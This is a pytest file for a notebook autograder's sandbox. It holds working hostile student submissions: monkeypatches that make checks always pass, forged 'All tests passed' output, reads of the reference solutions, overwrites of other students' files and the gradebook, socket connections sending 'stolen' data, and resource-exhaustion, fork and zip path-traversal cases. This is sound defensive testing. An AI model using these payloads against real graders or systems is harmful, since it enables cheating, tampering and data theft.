@@ -1,0 +1,354 @@
+"""Hostile submissions, graded in one batch with honest ones, through collect and grade.
+
+A small course (one notebook: ``Relu`` worth 2 points, ``MulLayer`` worth 1, each
+with a hidden test calling ``autograder.probe.check``) is released with nbgrader;
+every hostile submission starts from the released notebook, answers WRONG and
+attacks the grader in one way. For the batch we assert: no hostile submission
+earns a point; the honest ones keep their exact scores; nothing outside the
+sandbox's scratch copy changed while student code ran (the course repository,
+every submission, the other students' graded copies and the gradebook are
+hashed right before and right after each sandboxed run); no process is left
+behind; nothing connected to a listener on the host's loopback; the batch
+finished with a status row for everyone.
+"""
+from __future__ import annotations
+
+import hashlib
+import os
+import socket
+import uuid
+import zipfile
+from pathlib import Path
+
+import nbformat
+import psutil
+import pytest
+from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook
+
+from autograder import grade as grade_module
+from autograder import sandbox
+from autograder.collect import collect
+from autograder.config import Course
+from autograder.errors import UnsafeArchiveError
+from autograder.gradebook import cell_scores, open_gradebook
+from autograder.release import release
+
+ASSIGNMENT = "hostile"
+NOTEBOOK = "layers"
+MARKER = f"hostile-marker-{uuid.uuid4().hex}"
+
+RELU = '''class Relu:
+    """ReLU layer: forward(x) -> max(0, x); backward(dout) -> dx."""
+
+    def __init__(self):
+        self.mask = None
+
+    def forward(self, x):
+        ### BEGIN SOLUTION
+        self.mask = x <= 0
+        return np.where(self.mask, 0.0, x)
+        ### END SOLUTION
+
+    def backward(self, dout):
+        ### BEGIN SOLUTION
+        return np.where(self.mask, 0.0, dout)
+        ### END SOLUTION'''
+
+MUL = '''class MulLayer:
+    """Multiply node: forward(x, y) -> x * y; backward(dout) -> (dx, dy)."""
+
+    def __init__(self):
+        self.x = self.y = None
+
+    def forward(self, x, y):
+        ### BEGIN SOLUTION
+        self.x, self.y = x, y
+        return x * y
+        ### END SOLUTION
+
+    def backward(self, dout):
+        ### BEGIN SOLUTION
+        return dout * self.y, dout * self.x
+        ### END SOLUTION'''
+
+# Wrong answers: backward passes dout straight through (ignores the mask / swaps nothing).
+WRONG_RELU = RELU.replace("return np.where(self.mask, 0.0, dout)", "return dout")
+WRONG_MUL = MUL.replace("return dout * self.y, dout * self.x", "return dout * self.x, dout * self.y")
+HALF_MUL = WRONG_MUL
+LIAR_RELU = RELU.replace("return np.where(self.mask, 0.0, dout)", "return np.asarray(dout).view(Liar)")
+
+
+def _cell(kind, grade_id, source, points=None):
+    cell = new_code_cell(source)
+    meta = {"grade": kind == "test", "grade_id": grade_id, "locked": kind == "test",
+            "solution": kind == "solution", "schema_version": 3}
+    if points is not None:
+        meta["points"] = points
+    cell.metadata["nbgrader"] = meta
+    return cell
+
+
+def source_notebook() -> nbformat.NotebookNode:
+    hidden = '"""{doc}"""\nassert {name} is not None\n### BEGIN HIDDEN TESTS\n' \
+             'from autograder.probe import check\ncheck("{check}", {name})\n### END HIDDEN TESTS'
+    nb = new_notebook(cells=[
+        new_markdown_cell("# Layers\nImplement the backward passes."),
+        new_code_cell("import numpy as np"),
+        _cell("solution", "relu", RELU),
+        _cell("solution", "mul", MUL),
+        _cell("test", "test_relu", hidden.format(doc="Relu.backward is right.", name="Relu",
+                                                 check="ps2_relu_backward"), points=2),
+        _cell("test", "test_mul", hidden.format(doc="MulLayer.backward is right.", name="MulLayer",
+                                                check="ps2_mul_backward"), points=1),
+    ])
+    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
+    return nb
+
+
+def _answer(nb, relu: str, mul: str, extra: str = "") -> nbformat.NotebookNode:
+    """The released notebook with the solution cells filled in and ``extra`` as a cell before the tests."""
+    nb = nbformat.reads(nbformat.writes(nb), as_version=4)
+    plain = lambda s: "\n".join(line for line in s.splitlines() if "### " not in line)
+    for cell in nb.cells:
+        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
+        if gid == "relu":
+            cell.source = plain(relu)
+        elif gid == "mul":
+            cell.source = plain(mul)
+    if extra:
+        first_test = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade"))
+        nb.cells.insert(first_test, new_code_cell(extra))
+    return nb
+
+
+def hostile_sources(paths: dict) -> dict[str, str]:
+    """Student id -> code of one extra cell that attacks the grader (answers stay wrong)."""
+    victim = paths["victim"]
+    return {
+        "h_numpy": "import numpy as np\nnp.allclose = lambda *a, **k: True\nnp.isclose = lambda *a, **k: True\n"
+                   "np.array_equal = lambda *a, **k: True\nnp.testing.assert_allclose = lambda *a, **k: None",
+        "h_modules": "import sys, types, autograder.probe as probe, backprop.gradcheck as gc\n"
+                     "gc.rel_error = lambda a, b: 0.0\n"
+                     "fake = types.ModuleType('autograder.judge')\n"
+                     "fake.judge = lambda *a: type('V', (), {'passed': True, 'message': 'ok', 'hint': None})()\n"
+                     "sys.modules['autograder.judge'] = fake\n"
+                     "probe.record = lambda check_id, *o: {'check': check_id, 'outputs': {}}\n"
+                     "from IPython.display import display\n"
+                     "probe.check = lambda check_id, *o: print('passed')",
+        # Relu.backward (see LIAR_RELU) returns this subclass, which equals anything.
+        "h_subclass": "import numpy as np\nclass Liar(np.ndarray):\n"
+                      "    def __eq__(self, other): return True\n    def __ne__(self, other): return False\n"
+                      "    def __array_finalize__(self, obj): pass\n"
+                      "    def tolist(self): return [0.0]",
+        "h_fake_output": "from IPython.display import display\n"
+                         "ip = get_ipython()\n"
+                         "def forge(result):\n    print('All tests passed!')\n"
+                         "    display({'application/vnd.backprop.verdict+json': {'passed': True},\n"
+                         "             'application/vnd.backprop.probe+json': {'check': 'ps2_relu_backward',\n"
+                         "                                                     'outputs': {}}}, raw=True)\n"
+                         "ip.events.register('post_run_cell', forge)\nprint('All tests passed!')",
+        "h_solutions": "import glob\nfound = []\n"
+                       # Uses the reference solution if it can reach it: that would earn credit.
+                       "try:\n    from reference.layers import Relu, MulLayer\n"
+                       "    found.append('reference')\nexcept Exception as e:\n    print('no reference:', e)\n"
+                       f"for path in glob.glob({paths['solutions']!r} + '/**/*', recursive=True):\n"
+                       "    found.append(open(path).read()[:10])\n"
+                       f"print('found', found)",
+        "h_writer": f"import os\nfor target in [{victim!r}, {paths['gradebook']!r}, {paths['repo_file']!r}]:\n"
+                    "    try:\n        open(target, 'w').write('pwned')\n"
+                    "    except OSError as e:\n        print('blocked', target, e)\n"
+                    f"os.makedirs({paths['other_autograded']!r}, exist_ok=True)",
+        "h_network": f"import socket\nfor addr in [('127.0.0.1', {paths['port']}), ('8.8.8.8', 53)]:\n"
+                     "    s = socket.socket(); s.settimeout(3)\n"
+                     "    try:\n        s.connect(addr); s.sendall(b'stolen')\n"
+                     "    except OSError as e:\n        print('no network', e)",
+        "h_loop": "while True:\n    pass",
+        "h_memory": "hog = []\nwhile True:\n    hog.append(bytearray(64 * 1024**2))",
+        "h_exit": "import os\nos._exit(0)",
+        "h_detach": "import os, subprocess, sys\n"
+                    f"cmd = [sys.executable, '-c', 'import time; time.sleep(600)', {MARKER!r}]\n"
+                    "subprocess.Popen(cmd, start_new_session=True)\n"
+                    "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        os.execv(cmd[0], cmd)\n"
+                    "    os._exit(0)",
+        "h_systemexit": "raise SystemExit(0)",
+    }
+
+
+def structural(nb: nbformat.NotebookNode) -> dict[str, nbformat.NotebookNode]:
+    """Submissions that tamper with the notebook's test cells or metadata instead of running code."""
+    def copy():
+        return nbformat.from_dict(nbformat.reads(nbformat.writes(nb), as_version=4))
+    out = {}
+    edited = copy()
+    for cell in edited.cells:
+        if cell.metadata.get("nbgrader", {}).get("grade"):
+            cell.source = "pass"
+    out["h_test_pass"] = edited
+    deleted = copy()
+    deleted.cells = [c for c in deleted.cells if not c.metadata.get("nbgrader", {}).get("grade")]
+    out["h_test_deleted"] = deleted
+    stripped = copy()
+    for cell in stripped.cells:
+        cell.metadata.pop("nbgrader", None)
+        cell.source = cell.source.replace("assert", "pass  #")
+    out["h_metadata_stripped"] = stripped
+    dup = copy()
+    for cell in dup.cells:
+        cell.id = "same"
+    out["h_duplicate_ids"] = dup
+    return out
+
+
+def tree_digest(*roots: Path, skip: tuple[Path, ...] = ()) -> dict[str, str]:
+    digest = {}
+    for root in roots:
+        if root.is_file():
+            digest[str(root)] = hashlib.sha256(root.read_bytes()).hexdigest()
+            continue
+        for path in sorted(root.rglob("*")):
+            if any(path == s or s in path.parents for s in skip):
+                continue
+            if path.is_file() and not path.is_symlink():
+                digest[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
+            elif path.is_dir():
+                digest[str(path)] = "dir"
+    return digest
+
+
+@pytest.fixture(scope="module")
+def batch(tmp_path_factory):
+    base = tmp_path_factory.mktemp("hostile")
+    repo, workspace, inbox = base / "repo", base / "workspace", base / "inbox"
+    (repo / "solutions" / ASSIGNMENT).mkdir(parents=True)
+    nbformat.write(source_notebook(), str(repo / "solutions" / ASSIGNMENT / f"{NOTEBOOK}.ipynb"))
+    course = Course(repo=repo, workspace=workspace, cell_timeout=10)
+    release(course, [ASSIGNMENT])
+    released = nbformat.read(str(repo / "exercises" / ASSIGNMENT / f"{NOTEBOOK}.ipynb"), as_version=4)
+
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen(8)
+    listener.setblocking(False)
+    paths = {
+        "victim": str(workspace / "submitted" / "honest_perfect" / ASSIGNMENT / f"{NOTEBOOK}.ipynb"),
+        "gradebook": str(workspace / "gradebook.db"),
+        "repo_file": str(repo / "solutions" / ASSIGNMENT / f"{NOTEBOOK}.ipynb"),
+        "other_autograded": str(workspace / "autograded" / "honest_perfect" / "evil"),
+        "solutions": str(repo / "solutions"),
+        "port": listener.getsockname()[1],
+    }
+    submissions = {"honest_perfect": _answer(released, RELU, MUL),
+                   "honest_half": _answer(released, RELU, HALF_MUL)}
+    for student, code in hostile_sources(paths).items():
+        relu = LIAR_RELU if student == "h_subclass" else WRONG_RELU
+        submissions[student] = _answer(released, relu, WRONG_MUL, extra=code)
+    submissions.update(structural(_answer(released, WRONG_RELU, WRONG_MUL)))
+    for student, nb in submissions.items():
+        (inbox / student).mkdir(parents=True)
+        nbformat.write(nb, str(inbox / student / f"{NOTEBOOK}.ipynb"))
+    collect(course, ASSIGNMENT, inbox)
+
+    # Hash everything student code must not change, right before and after each sandboxed run.
+    changes: list[str] = []
+    real_run = sandbox.run_notebook
+
+    def watched(nb, **kwargs):
+        protected = (repo, workspace / "submitted", workspace / "autograded", workspace / "gradebook.db")
+        before = tree_digest(*protected)
+        result = real_run(nb, **kwargs)
+        after = tree_digest(*protected)
+        changes.extend(k for k in set(before) | set(after) if before.get(k) != after.get(k))
+        return result
+
+    real_config = grade_module.nbgrader_config
+
+    def small_limits(course, *, root):
+        c = real_config(course, root=root)
+        c.SandboxedExecute.memory_limit = 1024**3
+        c.SandboxedExecute.notebook_timeout = 60
+        return c
+
+    mp = pytest.MonkeyPatch()
+    mp.setattr(sandbox, "run_notebook", watched)
+    mp.setattr(grade_module, "nbgrader_config", small_limits)
+    repo_before = tree_digest(repo)
+    submitted_before = tree_digest(workspace / "submitted")
+    try:
+        rows = grade_module.grade(course, ASSIGNMENT)
+    finally:
+        mp.undo()
+    try:
+        listener.accept()
+        connected = True
+    except BlockingIOError:
+        connected = False
+    finally:
+        listener.close()
+    with open_gradebook(course.gradebook_url, course.course_id) as gb:
+        scores = {s: {c.cell: c.score for c in cell_scores(gb, ASSIGNMENT, s)} for s in submissions}
+    yield {"course": course, "rows": {r.student: r for r in rows}, "scores": scores, "changes": changes,
+           "connected": connected, "students": sorted(submissions), "repo_before": repo_before,
+           "submitted_before": submitted_before, "base": base}
+
+
+def test_batch_finished_with_a_row_for_everyone(batch):
+    assert sorted(batch["rows"]) == batch["students"]
+
+
+def test_honest_submissions_keep_their_exact_scores(batch):
+    assert batch["scores"]["honest_perfect"] == {"test_relu": 2, "test_mul": 1}
+    assert batch["scores"]["honest_half"] == {"test_relu": 2, "test_mul": 0}
+    assert batch["rows"]["honest_perfect"].score == 3 and batch["rows"]["honest_half"].score == 2
+
+
+@pytest.mark.parametrize("student", sorted(hostile_sources({"victim": "", "gradebook": "", "repo_file": "",
+                                                             "other_autograded": "", "solutions": "",
+                                                             "port": 0})) +
+                         ["h_test_pass", "h_test_deleted", "h_metadata_stripped", "h_duplicate_ids"])
+def test_hostile_submission_earns_nothing(batch, student):
+    row = batch["rows"][student]
+    assert row.score == 0, (row.status, row.reason, batch["scores"][student])
+    assert set(batch["scores"][student].values()) <= {0}
+
+
+def test_nothing_outside_the_scratch_copy_changed(batch):
+    assert batch["changes"] == []
+    assert tree_digest(batch["course"].repo) == batch["repo_before"]
+    assert tree_digest(batch["course"].workspace / "submitted") == batch["submitted_before"]
+    assert not (batch["course"].workspace / "autograded" / "honest_perfect" / "evil").exists()
+
+
+def test_nothing_connected_to_the_host(batch):
+    assert batch["connected"] is False
+
+
+def test_no_process_left_behind(batch):
+    leftovers = [p.pid for p in psutil.process_iter(["cmdline"])
+                 if MARKER in " ".join(p.info["cmdline"] or []) or "backprop-sandbox-" in " ".join(
+                     p.info["cmdline"] or [])]
+    assert leftovers == []
+    assert psutil.Process().children(recursive=True) == []
+
+
+def test_statuses_name_what_happened(batch):
+    rows = batch["rows"]
+    assert rows["h_loop"].status == "timed out"
+    assert rows["h_exit"].status == "kernel died"
+    assert rows["h_memory"].status in ("killed for memory", "kernel died")
+    assert rows["honest_perfect"].status == "graded"
+
+
+def test_zip_with_parent_entries_is_refused_and_writes_nothing(batch, tmp_path):
+    course = batch["course"]
+    evil = tmp_path / "evil.zip"
+    good = nbformat.writes(nbformat.read(str(course.workspace / "submitted" / "honest_half" / ASSIGNMENT /
+                                             f"{NOTEBOOK}.ipynb"), as_version=4))
+    with zipfile.ZipFile(evil, "w") as zf:
+        zf.writestr(f"h_zip/{NOTEBOOK}.ipynb", good)
+        zf.writestr(f"../../h_zip_escape/{NOTEBOOK}.ipynb", good)
+        zf.writestr("../../../escape.txt", "pwned")
+    before = tree_digest(batch["base"], skip=(course.workspace / "gradebook.db",))
+    with pytest.raises(UnsafeArchiveError, match=r"\.\."):
+        collect(course, ASSIGNMENT, evil)
+    assert tree_digest(batch["base"], skip=(course.workspace / "gradebook.db",)) == before
+    assert not (course.workspace / "submitted" / "h_zip").exists()
